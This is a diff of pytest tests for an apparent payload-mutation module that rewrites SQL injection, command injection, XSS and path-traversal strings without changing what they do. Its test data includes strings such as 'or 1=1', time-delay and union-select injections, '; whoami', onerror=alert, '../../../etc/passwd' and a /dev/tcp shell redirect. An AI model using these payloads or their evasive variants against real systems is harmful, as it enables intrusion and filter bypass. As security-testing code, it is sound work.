@@ -53,6 +53,38 @@ def test_sql_operators_of_other_engines_are_swapped() -> None:
     assert drawn == {"x' && 1=1 OR 2<>3", "x' AND 1=1 || 2<>3", "x' AND 1=1 OR 2!=3", "x' AND 1 LIKE 1 OR 2<>3"}
 
 
+def test_the_literal_that_an_injection_closes_is_not_its_own() -> None:
+    for payload in ("x' or 'abc'='abc", "1' and sleep(5) and 'x", "'; waitfor delay '0:0:5'--", "1' and a=N'bcd'--"):
+        for seed in range(40):
+            mutated = mutators.sql_string(payload, random.Random(seed))
+            assert mutated == payload or mutated.startswith("x' or ('"), mutated
+    drawn = {mutators.sql_string("-1 or sleep(5)='abc'", random.Random(seed)) for seed in range(40)}
+    assert "-1 or sleep(5)=('a' 'bc')" in drawn  # MySQL's || is no concatenation
+    assert "1; exec('ab'); select 'x'+('c'+'d')" not in drawn
+
+
+def test_what_must_stay_as_it_is_in_sql_does() -> None:
+    for seed in range(40):
+        rng = random.Random(seed)
+        for payload in ("1+order+by+19--", "cast(a as char(9))", "declare @a nvarchar(4000)"):
+            assert mutators.sql_number(payload, rng) == payload
+        assert "!50000" in mutators.sql_number("1/*!50000 union*/ select 1", rng)
+        assert mutators.sql_space("1/*!50000union all*/ select 1", rng).count("/*") == 1
+        assert "&&" not in mutators.sql_operator("1 or 2 between 1 and 3", rng)
+        for payload in ("1; drop table a --", "' order by 9 -- ", "' union select a from b -- ", "x' limit 1 #"):
+            assert mutators.sql_invariant(payload, rng) == payload
+        assert mutators.sql_invariant("x' or a=1 -- ", rng) != "x' or a=1 -- "
+
+
+def test_sql_in_text_is_closed_behind() -> None:
+    assert mutators.standing_in_text("1 or 1=1", "sqli") == "1 or 1=1 -- "
+    assert mutators.standing_in_text("' or 'a'='a'", "sqli") == "' or 'a'='a' -- "
+    for payload in ("' or 'a'='a", "1 or 1=1--", '" or "a"="a'):
+        assert mutators.standing_in_text(payload, "sqli") == payload
+    assert mutators.standing_in_text("whoami", "cmdi") == "; whoami"
+    assert mutators.standing_in_text("a|whoami", "cmdi") == "a|whoami"
+
+
 @pytest.mark.parametrize("command", ["cat /etc/hostname", "ls -la /tmp", "; id", "| uname -a", "ping -c 1 localhost"])
 def test_quotes_leave_the_words_that_a_shell_reads(command: str) -> None:
     for seed in range(25):
@@ -81,6 +113,24 @@ def test_carets_and_case_leave_what_cmd_reads() -> None:
     assert len(drawn) > 8
     assert {text.replace("^", "").lower() for text in drawn} == {"& ipconfig /all"}
     assert mutators.cmd_carets('& cmd /c "ipconfig"', random.Random(1)) == '& cmd /c "ipconfig"'
+
+
+def test_windows_is_told_nothing_that_only_a_posix_shell_reads() -> None:
+    for payload in ("& ping -n 9 127.0.0.1", "; Get-Process", "| type c:\\a.txt"):
+        for seed in range(20):
+            rng = random.Random(seed)
+            assert mutators.shell_quotes(payload, rng) == payload
+            assert mutators.shell_empty(payload, rng) == payload
+            assert mutators.shell_separator(payload, rng) == payload
+            plain = mutators.cmd_carets(payload, rng).replace("^", "").lower()
+            assert plain == payload.lower()
+
+
+def test_slashes_of_paths_only() -> None:
+    drawn = {mutators.shell_path("cat /etc/a.d/hosts ./b/c", random.Random(seed)) for seed in range(9)}
+    assert "cat /etc//a.d//hosts ./b//c" in drawn
+    for payload in ("sed s/a/b/ x", "echo YWJj/ZGVm | base64 -d", "sh >& /dev/tcp/a/1", "docker run a/b"):
+        assert {mutators.shell_path(payload, random.Random(seed)) for seed in range(9)} == {payload}
 
 
 def test_a_last_tag_is_left_open() -> None:
@@ -124,6 +174,21 @@ def test_mutated_markup_has_the_same_tags_and_handlers(operator: mutators.Mutato
         assert mutated.seen == plain.seen
 
 
+def test_white_space_never_ends_an_attribute_or_breaks_a_script() -> None:
+    for seed in range(60):
+        rng = random.Random(seed)
+        link = _Reader()
+        link.feed(mutators.html_scheme("<a href=javascript:a(1)>x</a>", rng))
+        address = "".join(str(link.seen[0][1]["href"]).split()).lower()
+        assert (link.seen[0][0], address) == ("a", "javascript:a(1)")
+        assert "\n" not in mutators.html_scheme("<script>location='javascript:a(1)'</script>", rng)
+        image = _Reader()
+        image.feed(mutators.js_call("<img src=x onerror=alert(1)>", rng))
+        assert set(image.seen[0][1]) == {"src", "onerror"}
+        assert mutators.html_case("window.onerror=eval", rng) == "window.onerror=eval"
+        assert "onerror" in mutators.html_case("<script>{onerror=alert}throw 1</script>", rng)
+
+
 def test_paths_only_change_their_spelling() -> None:
     for seed in range(40):
         mutated = mutators.path_spelling("../../../etc/passwd", random.Random(seed))
@@ -158,3 +223,10 @@ def test_spaces_leave_what_documents_and_queries_say() -> None:
 
 def _words(text: str) -> list[str]:
     return re.findall(r"\"[^\"]*\"|'[^']*'|\w+|[^\w\s]", text)
+
+
+def test_what_names_a_scheme_or_a_parameter_keeps_its_signs() -> None:
+    for seed in range(20):
+        rng = random.Random(seed)
+        assert mutators.path_noise("file:/etc/hosts", rng) == "file:/etc/hosts"
+        assert mutators.json_space('[$in]["a"]=b', rng) == '[$in]["a"]=b'
